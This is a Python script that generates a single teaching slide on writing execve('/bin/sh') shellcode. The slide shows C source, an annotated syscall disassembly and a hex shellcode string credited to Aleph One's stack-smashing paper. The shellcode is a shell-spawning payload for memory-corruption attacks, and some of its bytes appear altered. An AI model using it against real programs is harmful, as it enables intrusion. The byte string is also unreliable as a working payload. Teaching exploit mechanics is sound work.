
from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE as Shape
from pptx.enum.text import MSO_ANCHOR as Anchor, PP_ALIGN as Align
from pptx.oxml.ns import qn
from pptx.util import Pt

TITLE = "Shellcode of execve"
QUESTION = "How to develop shellcode that runs as execve(“/bin/sh”)?"
SOURCE_BLOCKS = [
    ["void main() {", "   char *name[2];"],
    ['   name[0] = "/bin/sh";', "   name[1] = NULL;",
     "   execve(name[0], name, NULL);", "}"],
]
DISASSEMBLY = [
    (["0x80002bc <__execve>:   pushl  %ebp",
      "0x80002bd <__execve+1>: movl   %esp,%ebp",
      "0x80002bf <__execve+3>: pushl  %ebx"],
     "The procedure prelude."),
    (["0x80002c0 <__execve+4>: movl   $0xb,%eax"],
     "Copy 0xb (11 decimal) onto the stack. This is the index into the syscall table.  11 is execve."),
    (["0x80002c5 <__execve+9>: movl   0x8(%ebp),%ebx"],
     'Copy the address of "/bin/sh" into EBX.'),
    (["0x80002c8 <__execve+12>:        movl   0xc(%ebp),%ecx"],
     "Copy the address of name[] into ECX."),
    (["0x80002cb <__execve+15>:        movl   0x10(%ebp),%edx"],
     "Copy the address of the null pointer into %edx."),
    (["0x80002ce <__execve+18>:        int    $0x80"],
     "Change into kernel mode."),
]
SHELLCODE = (
    r"“\xeb\x1f\x5e\x89\x76\x08\x31\xc0\x88\x46\x46\x0c\xb0\x0b\x89\xf3\x8d\x4e\x08\x8d\x56\x0c"
    r"\xcd\x80\x31\xdb\x89\xd8\x40\xcd\x80\xe8\xdc\xff\xff\xff/bin/sh”"
)
CAPTIONS = [
    ("(disassembly of execve call)*", (205.2, 252.7, 180, 24.5), 14),
    ("(format instructions and data as characters)*", (0, 352.8, 347, 28.8), 18),
    ("*For more details, refer to Smashing the stack by aleph one", (365.8, 505.4, 356.4, 24.5), 14),
]
ARROWS = [((229, 278.6, 136.8, 30.3), 0), ((231.8, 392.4, 136.8, 30.3), 144.2)]
GREY_STOPS = [(0, "BDBDBD"), (35, "D1D1D1"), (100, "EEEEEE")]
BLUE_STOPS = [(0, "3F80CE"), (100, "A4C4FF")]

deck = Presentation()
deck.slide_width, deck.slide_height = Pt(720), Pt(540)
slide = deck.slides.add_slide(deck.slide_layouts[6])


def color(hex_code):
    return RGBColor.from_string(hex_code)


def write(paragraph, text, size, hue="000000", bold=False, font="Calibri"):
    paragraph.text = text
    for run in paragraph.runs:
        run.font.name, run.font.size, run.font.bold = font, Pt(size), bold
        run.font.color.rgb = color(hue)


def next_paragraph(frame):
    first = frame.paragraphs[0]
    return frame.add_paragraph() if first.runs else first


def text_box(place, wrap=True):
    frame = slide.shapes.add_textbox(*map(Pt, place)).text_frame
    frame.word_wrap = wrap
    return frame


def outlined(kind, place, line, width):
    shape = slide.shapes.add_shape(kind, *map(Pt, place))
    shape.shadow.inherit = False
    shape.line.color.rgb = color(line)
    shape.line.width = Pt(width)
    return shape


def panel(place, line, width):
    shape = outlined(Shape.RECTANGLE, place, line, width)
    shape.fill.solid()
    shape.fill.fore_color.rgb = color("FFFFFF")
    shape.text_frame.word_wrap = True
    shape.text_frame.vertical_anchor = Anchor.TOP
    return shape


def shade(shape, stops, shadow_opacity):
    shape.fill.gradient()
    shape.fill.gradient_angle = 90
    properties = shape.element.spPr
    stop_list = properties.find(qn("a:gradFill")).find(qn("a:gsLst"))
    for stop in list(stop_list):
        stop_list.remove(stop)
    for percent, hue in stops:
        stop = SubElement(stop_list, qn("a:gs"), pos=str(percent * 1000))
        SubElement(stop, qn("a:srgbClr"), val=hue)
    shadow = SubElement(properties.find(qn("a:effectLst")), qn("a:outerShdw"),
                        blurRad=str(Pt(3.1)), dist=str(Pt(1.7)), dir="5400000", rotWithShape="0")
    shadow_color = SubElement(shadow, qn("a:srgbClr"), val="000000")
    SubElement(shadow_color, qn("a:alpha"), val=str(shadow_opacity * 1000))


heading = text_box((36, 21.6, 648, 90))
heading.vertical_anchor = Anchor.MIDDLE
heading.paragraphs[0].alignment = Align.CENTER
write(heading.paragraphs[0], TITLE, 36, "3366FF", True, "Arial")

question = text_box((4.3, 126, 715.7, 50)).paragraphs[0]
bullet = question._p.get_or_add_pPr()
bullet.set("marL", str(Pt(27)))
bullet.set("indent", str(Pt(-27)))
SubElement(bullet, qn("a:buFont"), typeface="Arial")
SubElement(bullet, qn("a:buChar"), char="•")
write(question, QUESTION, 28)

source = panel((3.6, 217.4, 200.2, 117.4), "000000", 0.75)
shade(source, GREY_STOPS, 38)
for block_index, block in enumerate(SOURCE_BLOCKS):
    for line_index, code in enumerate(block):
        paragraph = next_paragraph(source.text_frame)
        write(paragraph, code, 13)
        if block_index and line_index == 0:
            paragraph.space_before = Pt(15.9)

listing = panel((375.8, 198, 340.6, 279.4), "F79646", 2).text_frame
for step, (instructions, explanation) in enumerate(DISASSEMBLY):
    for line_index, instruction in enumerate(instructions):
        paragraph = next_paragraph(listing)
        paragraph.line_spacing = 0.8
        if step and line_index == 0:
            paragraph.space_before = Pt(13.5)
        write(paragraph, instruction, 14, bold=True)
    paragraph = next_paragraph(listing)
    paragraph.line_spacing = 0.8
    paragraph._p.get_or_add_pPr().set("indent", str(Pt(36)))
    write(paragraph, explanation, 14, "1F497D")

for caption, place, size in CAPTIONS:
    write(text_box(place, wrap=False).paragraphs[0], caption, size)

result = panel((25.9, 444.2, 259.2, 79.9), "4F81BD", 2).text_frame.paragraphs[0]
result.alignment = Align.LEFT
write(result, SHELLCODE, 12, "558ED5")

for frame in (source.text_frame, listing):
    for paragraph in frame.paragraphs:
        paragraph.alignment = Align.LEFT

for place, angle in ARROWS:
    arrow = outlined(Shape.RIGHT_ARROW, place, "4B7EBC", 0.75)
    shade(arrow, BLUE_STOPS, 35)
    arrow.rotation = angle

deck.save("out.pptx")
